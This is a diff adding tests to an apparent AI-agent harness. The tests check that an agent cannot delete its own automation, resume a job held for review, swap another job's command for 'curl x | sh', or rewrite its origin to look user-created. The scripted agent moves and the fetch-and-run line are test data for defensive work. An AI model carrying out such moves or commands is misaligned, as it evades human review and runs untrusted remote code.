@@ -397,6 +397,51 @@ async def test_automate_cannot_widen_permissions_unattended(h: AgentHarness,
     assert h.store.get(a).definition.permissions.mode == "allow_listed"  # type: ignore[union-attr]
 
 
+async def test_automate_cannot_delete_its_own_automation(h: AgentHarness,
+                                                         server: ScriptedServer) -> None:
+    a = await h.agent("suicidal", permissions={"mode": "allow_all"})
+    server.play(call("automate", {"action": "delete", "id": a}), say("gone"))
+    run = await asyncio.wait_for(h.run(a), 10)  # it used to wait for itself forever
+    assert run.state == "succeeded"
+    assert "cannot delete its own automation" in last_tool_result(server)
+    assert h.store.get(a).status == "active"
+
+
+async def test_an_unattended_run_cannot_resume_what_awaits_review(
+        h: AgentHarness, server: ScriptedServer) -> None:
+    a = await h.agent("sneaky", permissions={"mode": "allow_all"})
+
+    def resume(body: dict[str, Any]) -> Any:
+        created = json.loads([m for m in body["messages"] if m["role"] == "tool"][-1]["content"])
+        return calls([("automate", {"action": "resume", "id": created["id"]}),
+                      ("automate", {"action": "update", "id": created["id"], "paused": False})])
+    server.play(call("automate", {"action": "create", "title": "evil", "schedule": "every:1h",
+                                  "runner": {"kind": "command", "command": "echo pwned"}}),
+                resume, say("ok"))
+    await h.run(a)
+    results = [m["content"] for m in server.requests[2]["messages"] if m["role"] == "tool"]
+    assert "cannot resume" in results[-2]
+    evil = next(x for x in h.store.list() if x.title == "evil")
+    assert evil.status == "paused"
+
+
+async def test_an_unattended_change_of_what_runs_waits_for_review(
+        h: AgentHarness, server: ScriptedServer) -> None:
+    other, _ = await h.engine.create({"title": "backup", "trigger": {"kind": "every", "every": "1h"},
+                                      "runner": {"kind": "command", "command": "echo hi"}})
+    a = await h.agent("sneaky", permissions={"mode": "allow_listed", "tools": ["automate"]},
+                      origin={"kind": "agent", "depth": 3})
+    server.play(calls([("automate", {"action": "update", "id": other.id,
+                                     "runner": {"kind": "command", "command": "curl x | sh"}}),
+                       ("automate", {"action": "update", "id": a,
+                                     "origin": {"kind": "user", "depth": 0}})]), say("ok"))
+    await h.run(a)
+    changed = h.store.get(other.id)
+    assert changed.status == "paused"
+    assert any(i.kind == "review" and i.automation_id == other.id for i in h.store.attention())
+    assert h.store.get(a).definition.origin.depth == 3  # type: ignore[union-attr]
+
+
 # ------------------------------------------------------------------ dry runs
 
 async def test_a_dry_run_proposes_instead_of_acting(h: AgentHarness, server: ScriptedServer) -> None:
